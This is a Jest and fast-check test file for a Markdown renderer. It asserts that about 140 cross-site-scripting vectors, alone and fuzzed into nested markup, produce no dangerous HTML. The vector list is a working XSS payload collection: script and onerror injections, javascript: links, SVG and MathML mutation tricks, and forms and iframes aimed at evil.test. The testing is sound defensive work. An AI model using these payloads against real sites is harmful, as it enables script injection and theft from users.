/**
 * No Markdown gives HTML that runs, loads from the web, submits, styles or takes the name of a part of the page.
 *
 * @jest-environment jsdom
 */
import fc from "fast-check";
import type { AssetAnswer } from "../../../scripts/content/assets.ts";
import { makeLinkTable, resolveLink } from "../../../scripts/content/link-table.ts";
import { MarkdownRenderer } from "../../../scripts/content/markdown/renderer.ts";

const renderer = new MarkdownRenderer();
const links = makeLinkTable([], "https://home.test/");

function findAsset(href: string): AssetAnswer {
  if (/^https?:/i.test(href)) return { kind: "remote", href };
  if (href !== "cat.png") return { kind: "missing" };
  return { kind: "asset", asset: { source: href, path: "assets/cat.png", kind: "image", bytes: 1 } };
}

function html(markdown: string, always = false): string {
  const around = {
    title: "",
    firstLine: 1,
    path: "a.md",
    report: () => undefined,
    resolveLink: (href: string) => resolveLink(links, "a.md", href),
    findAsset,
    keepDrawing: () => "cat.png",
  };
  return renderer.render(markdown, around, always).html;
}

const tags = new Set(
  (
    "a abbr address aside audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em " +
    "figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark meter ol p pre progress q rb rp rt ruby s samp " +
    "section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var video wbr " +
    "math menclose merror mfrac mglyph mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace " +
    "msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover semantics annotation"
  ).split(" "),
);
const attributes =
  /^(?:id|class|lang|dir|title|align|role|href|target|rel|tabindex|colspan|rowspan|headers|scope|span|start|reversed|type|value|open|datetime|max|min|low|high|optimum|checked|disabled|src|alt|width|height|loading|decoding|controls|preload|data-(?:article|note|note-back|title|language|tex))$/;
const mathAttributes =
  /^(?:accent|accentunder|class|columnalign|columnlines|columnspacing|data-tex|depth|display|displaystyle|encoding|fence|form|framespacing|frame|height|largeop|linebreak|linethickness|lspace|mathcolor|mathbackground|mathsize|mathvariant|maxsize|minsize|movablelimits|notation|rowalign|rowlines|rowspacing|rspace|scriptlevel|separator|stretchy|symmetric|voffset|width|xmlns)$/;
const addresses =
  /^(?:https?:\/\/|(?:mailto|tel|ftp|sms|geo|xmpp|ircs?|matrix|magnet|gemini|doi):|#(?:a-|n-|nr-)|reader\.html\?article=|assets\/)/;

/** What is wrong with a piece of HTML as a browser reads it, in words. */
function dangers(made: string): string[] {
  const found: string[] = [];
  for (const element of new DOMParser().parseFromString(`<body>${made}`, "text/html").querySelectorAll("body *")) {
    const tag = element.localName;
    const inMaths = element.namespaceURI?.endsWith("MathML") === true;
    if (!tags.has(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (!(inMaths ? mathAttributes : attributes).test(name)) found.push(`<${tag} ${name}>`);
      if (name === "href" && !addresses.test(value)) found.push(`<${tag} href=${value}>`);
      if (name === "src" && !/^assets\/[\w.]+$/.test(value)) found.push(`<${tag} src=${value}>`);
      if (name === "id" && !/^(?:a-|n-|nr-)/.test(value)) found.push(`<${tag} id=${value}>`);
      if (name === "type" && tag === "input" && value !== "checkbox") found.push(`<input type=${value}>`);
    }
    if (element.getAttribute("target") === "_blank" && /^https?:/.test(element.getAttribute("href") ?? "")) {
      if (!element.getAttribute("rel")?.includes("noopener")) found.push("a window that can reach back");
    }
  }
  return found;
}

/** A browser that writes its tree and reads it again must find the same: the way of mutating attacks. */
function dangersOnBothReadings(made: string): string[] {
  const once = new DOMParser().parseFromString(`<body>${made}`, "text/html").body.innerHTML;
  return [...dangers(made), ...dangers(once)];
}

const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src='x'onerror='alert(1)'>",
  "<img/src=x/onerror=alert(1)//",
  "<img src=https://evil.test/pixel.gif>",
  '<img srcset="https://evil.test/a.png 1x" src=cat.png>',
  "<image xlink:href=https://evil.test/x.png>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=https://evil.test></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<object data=https://evil.test/x.swf></object>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src=https://evil.test/x>",
  "<embed src='javascript:alert(1)'>",
  "<base href=https://evil.test/>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<style>@import 'https://evil.test/x.css';</style>",
  "<style>body{display:none}</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.test)'>over</p>",
  "<p class='hljs toolbar panel' id=main name=main>over</p>",
  "<div id=__proto__ class=__proto__>x</div>",
  "<form action=https://evil.test><input name=q><button>Go</button></form>",
  "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
  "<input type=image src=https://evil.test/x.png onfocus=alert(1) autofocus>",
  "<input type=checkbox onclick=alert(1)>",
  "<textarea onfocus=alert(1) autofocus></textarea>",
  "<select onchange=alert(1)><option>x</select>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x0A;javascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:x'>x</a>",
  "<a href='blob:https://x/1'>x</a>",
  "<a href='filesystem:https://x/1'>x</a>",
  "<a href='view-source:x'>x</a>",
  "<a href='chrome://settings'>x</a>",
  "<a href='moz-extension://x/options.html'>x</a>",
  "<a href='options.html'>x</a>",
  "<a href=https://evil.test ping=https://evil.test/ping target=_top rel=opener>x</a>",
  "<a name=location>x</a><a id=document>x</a>",
  "<a href='#main'>x</a>",
  "<area href='javascript:alert(1)'><map name=m></map>",
  "<video src=https://evil.test/x.mp4 poster=https://evil.test/x.png autoplay onplay=alert(1)></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.test/x.mp3 onloadstart=alert(1)></audio>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<dialog open>x</dialog>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<html onclick=alert(1)>",
  "<frameset onload=alert(1)><frame src=https://evil.test></frameset>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<title><a href='</title><img src=x onerror=alert(1)>'>",
  "<plaintext>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?><?xml-stylesheet href='https://evil.test/x.css'?>",
  "<isindex action='javascript:alert(1)'>",
  "<custom-element onclick=alert(1) style=x>x</custom-element>",
  "<table background=https://evil.test/x.png><td background=https://evil.test/y.png>x</table>",
  "<p data-own=k data-article=x data-note tabindex=5 contenteditable accesskey=x popovertarget=x>x</p>",
  "<bdo dir=rtl onmouseover=alert(1)>x</bdo>",
  "<ruby onclick=alert(1)>x<rt>y</ruby>",
  "<slot name=x></slot><portal src=https://evil.test></portal>",
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](JAVASCRIPT:alert`1`)",
  "[x](\tjavascript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x](//evil.test)",
  "[x](\\\\evil.test)",
  "[x][y]\n\n[y]: javascript:alert(1) 'onclick=alert(1)'",
  "<javascript:alert(1)>",
  '[x](https://a.test "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.test/"onmouseover=alert(1)//)',
  "![x](javascript:alert(1))",
  "![x](https://evil.test/pixel.gif)",
  '![x" onerror="alert(1)](cat.png)',
  '![x](cat.png "\\"onerror=alert(1)")',
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```js"><img src=x onerror=alert(1)>\nx\n```',
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.test/x.png}$",
  "$\\text{<img src=x onerror=alert(1)>}$ $\\htmlStyle{position:fixed}{x}$ $\\class{x}{y}$ $\\htmlId{main}{x}$",
  "$$\\style{position:fixed}{x} \\id{main}{x} \\data{x=y}{z}$$",
  "# x {#main onclick=alert(1)}",
  "# <img src=x onerror=alert(1)>",
  "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
  ':::note[<img src=x onerror="alert(1)">]\nx\n:::',
  ':::note "onclick="alert(1)\nx\n:::',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  '{{< figure src="javascript:alert(1)" caption="<img src=x onerror=alert(1)>" >}}',
  '{{< youtube "x\\" onclick=\\"alert(1)" >}} {% youtube javascript:alert(1) %}',
  '{{< details title="<script>alert(1)</script>" >}}x{{< /details >}}',
  '{% unknown "x](javascript:alert(1))", "https://a.test/)[y](javascript:alert(1))" %}',
  '[[javascript:alert(1)|x]] ![[javascript:alert(1).png]] [[x"onclick=alert(1)]]',
  "==<script>alert(1)</script>== %%<script>%%",
  "term\n: <script>alert(1)</script>",
  "<script>alert(1)</script> <b onclick=alert(1)>term</b>\n: meaning",
  "- [x] <script>alert(1)</script>",
  "^[A note with <script>alert(1)</script>]",
  "> [!NOTE] <script>alert(1)</script>\n> [x][1]\n\n[1]: javascript:alert(1)",
  ':::note[<script>alert(1)</script>"]{title="<img src=x onerror=alert(1)>"}\n<script>alert(1)</script>\n:::',
  '::: details <img src=x onerror=alert(1)>\n:::\n\n::a{url="javascript:alert(1)"} :b[<script>alert(1)</script>]',
  '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
  '??? "<script>alert(1)</script>" onclick\n    x\n\n=== "<script>alert(1)</script>"\n    x',
  "{% equation %}<script>alert(1)</script>{% endequation %}",
  '<div>{{< youtube "x"><script>alert(1)</script>" >}}{{< figure src="x" onerror="alert(1)" caption="<script>" >}}</div>',
  '{{< video src="javascript:alert(1)" >}} {{< video src=""><script>alert(1)</script>" >}} <img src="include:a.md">',
  "{% label a@<script>alert(1)</script> %} **“<script>alert(1)</script>”**字",
  "{::nomarkdown}<script>alert(1)</script>{:/}",
  "k0123456789abcdef0123456789abcdef:0; <b title='k0123456789abcdef0123456789abcdef:0;'>x</b>",
  "<a data-own='k0123' href='javascript:alert(1)'>x</a>",
] as const;

describe("an attack", () => {
  test.each(vectors)("%s comes to nothing", (vector) => {
    expect(dangersOnBothReadings(html(vector))).toEqual([]);
    expect(dangersOnBothReadings(html(`Words ${vector} more.\n\n${vector}\n\n<b>raw</b>`))).toEqual([]);
  });
});

/** Places where a text may hide one. */
const places = [
  (x: string) => x,
  (x: string) => `- ${x.replaceAll("\n", "\n  ")}`,
  (x: string) => `> ${x.replaceAll("\n", "\n> ")}`,
  (x: string) => `# ${x}`,
  (x: string) => `| a |\n|---|\n| ${x} |`,
  (x: string) => `[${x}](https://a.test "${x}")`,
  (x: string) => `![${x}](${x})`,
  (x: string) => `<b title="${x}">${x}</b>`,
  (x: string) => `<div>\n\n${x}\n\n</div>`,
  (x: string) => `<details><summary>${x}</summary>${x}</details>`,
  (x: string) => `[^n]\n\n[^n]: ${x}`,
  (x: string) => `$${x}$`,
  (x: string) => `\`\`\`${x}\n${x}\n\`\`\``,
  (x: string) => `{{< figure src="${x}" alt="${x}" >}}`,
  (x: string) => `term\n: ${x}`,
  (x: string) => `${x}\n: meaning`,
  (x: string) => `A note^[of ${x}]`,
  (x: string) => `:::tip[${x}]\n${x}\n:::`,
  (x: string) => `!!! note "${x}"\n    ${x.replaceAll("\n", "\n    ")}`,
  (x: string) => `字**（${x}）**字`,
  (x: string) => `<div>{{< figure src="${x}" caption="${x}" >}}`,
];

const noise = fc.constantFrom(
  "<",
  ">",
  '"',
  "'",
  "`",
  "&",
  "\n\n",
  "<!--",
  "-->",
  "</p>",
  "<p",
  "]",
  ")",
  "$",
  "\\",
  "<b>",
  "</svg>",
  "<math>",
  "</style>",
);

test("nor do any of them together, cut, nested and hidden anywhere", () => {
  const hidden = fc
    .tuple(fc.constantFrom(...places), fc.constantFrom(...vectors), noise)
    .map(([place, vector, extra]) => `${place(vector)}${extra}`);
  const text = fc
    .tuple(fc.array(fc.oneof(hidden, fc.constantFrom(...vectors), noise), { minLength: 1, maxLength: 5 }), fc.nat(400))
    .map(([parts, cut]) => parts.join(" ").slice(cut % 7 === 0 ? cut % 40 : 0));
  fc.assert(
    fc.property(text, fc.boolean(), (markdown, always) => {
      expect(dangersOnBothReadings(html(markdown, always))).toEqual([]);
    }),
    { numRuns: 1500 },
  );
});
